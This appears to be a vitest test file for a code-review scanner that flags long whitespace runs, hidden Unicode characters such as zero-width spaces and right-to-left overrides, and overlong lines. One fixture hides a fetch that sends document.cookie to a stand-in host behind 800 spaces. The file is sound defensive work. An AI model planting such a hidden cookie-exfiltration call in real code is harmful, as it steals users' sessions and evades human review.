import { describe, expect, it } from 'vitest';
import { fileReviewFlags, hiddenCharacterLabels, lineFlags, reviewFlags } from './reviewFlags.ts';

const brief = (files: Record<string, string>) =>
  reviewFlags(files).map((f) => `${f.file}:${f.line}:${f.column} ${f.kind} ${f.label}`);

describe('reviewFlags', () => {
  it('flags 800 spaces hiding a fetch, and the line they make long, by file and line', () => {
    const code = `export default function App() { return null; }${' '.repeat(800)}fetch('https://x.example/'+document.cookie);\n`;
    expect(brief({ 'src/util.ts': 'export const x = 1;\n', 'src/App.tsx': code })).toEqual([
      'src/App.tsx:1:1 long_line 890 characters',
      'src/App.tsx:1:47 blank_run 800 spaces',
    ]);
  });

  it('keeps the hidden-character flags, in the path (line 0) and in the code', () => {
    expect(brief({ 'src/a\u200B.ts': 'const a = "x\u202E";\nok\n' })).toEqual([
      'src/a\u200B.ts:0:1 hidden_character U+200B ZERO WIDTH SPACE',
      'src/a\u200B.ts:1:13 hidden_character U+202E RIGHT-TO-LEFT OVERRIDE',
    ]);
    expect(hiddenCharacterLabels('Poll\u202E\u202E')).toEqual(['U+202E RIGHT-TO-LEFT OVERRIDE']);
  });

  it('flags tabs, other space separators and trailing runs; leaves ordinary code alone', () => {
    expect(lineFlags(`a${'\t'.repeat(20)}b`).map((f) => f.label)).toEqual(['20 tabs']);
    expect(lineFlags(`a${'\u3000'.repeat(10)}${' '.repeat(10)}b`).map((f) => f.label)).toEqual([
      '20 blank characters',
    ]);
    expect(lineFlags(`return x;${' '.repeat(25)}`).map((f) => f.label)).toEqual(['25 spaces at the end']);
    expect(lineFlags(' '.repeat(30)).map((f) => f.label)).toEqual(['30 spaces at the end']);
    // Indentation is formatting until it is deeper than any real code.
    expect(lineFlags(`${' '.repeat(40)}<div>`)).toEqual([]);
    expect(lineFlags(`${' '.repeat(90)}fetch(x)`).map((f) => f.label)).toEqual(['90 spaces']);
    expect(lineFlags(`const a = 1;${' '.repeat(19)}// aligned`)).toEqual([]);
    expect(lineFlags('x'.repeat(300))).toEqual([]);
    expect(lineFlags('x'.repeat(301)).map((f) => f.kind)).toEqual(['long_line']);
    expect(fileReviewFlags('src/App.tsx', 'export default () => null;\r\n\tok\r\n')).toEqual([]);
  });
});
